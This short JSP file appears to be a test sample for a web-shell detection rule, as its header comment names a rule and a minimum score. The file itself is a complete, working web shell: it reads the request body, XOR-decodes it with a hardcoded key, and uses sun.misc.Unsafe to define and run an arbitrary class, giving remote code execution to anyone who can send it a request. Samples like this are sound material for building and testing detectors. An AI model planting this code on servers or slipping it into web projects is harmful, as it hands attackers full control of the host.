<%-- expect rule=jsp.classloader-input min=95 --%>
<%@ page import="java.lang.reflect.Field,java.io.*" %>
<%
    InputStream in = request.getInputStream();
    ByteArrayOutputStream bo = new ByteArrayOutputStream();
    byte[] buf = new byte[4096];
    int n;
    while ((n = in.read(buf)) > 0) bo.write(buf, 0, n);
    byte[] code = bo.toByteArray();
    byte[] k = "s3cr3t".getBytes();
    for (int i = 0; i < code.length; i++) code[i] = (byte) (code[i] ^ k[i % k.length]);
    Field f = Class.forName("sun.misc.Unsafe").getDeclaredField("theUnsafe");
    f.setAccessible(true);
    sun.misc.Unsafe u = (sun.misc.Unsafe) f.get(null);
    Class<?> c = u.defineAnonymousClass(java.io.File.class, code, null);
    c.newInstance();
%>
